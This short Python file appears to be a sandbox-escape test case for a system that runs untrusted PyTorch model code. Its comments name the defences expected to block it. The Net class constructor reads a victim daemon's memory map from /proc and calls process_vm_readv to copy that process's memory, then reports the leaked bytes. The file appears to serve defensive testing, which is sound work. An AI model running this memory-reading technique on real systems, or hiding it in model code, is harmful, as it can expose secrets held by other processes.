# what: copies memory out of the daemon
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn

libc = torch.ctypes.CDLL(None, use_errno=True)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        with open(f"/proc/{VICTIM['daemon']}/maps") as file:
            start = int(file.read().split("-")[0], 16)
        ours = torch.ctypes.create_string_buffer(64)
        vector = torch.ctypes.c_uint64 * 2
        here, there = vector(torch.ctypes.addressof(ours), 64), vector(start, 64)
        result = libc.process_vm_readv(VICTIM["daemon"], here, 1, there, 1, 0)
        if result < 0:
            raise OSError(torch.ctypes.get_errno(), "refused")
        raise RuntimeError(f"GOT {ours.raw[:4]}")
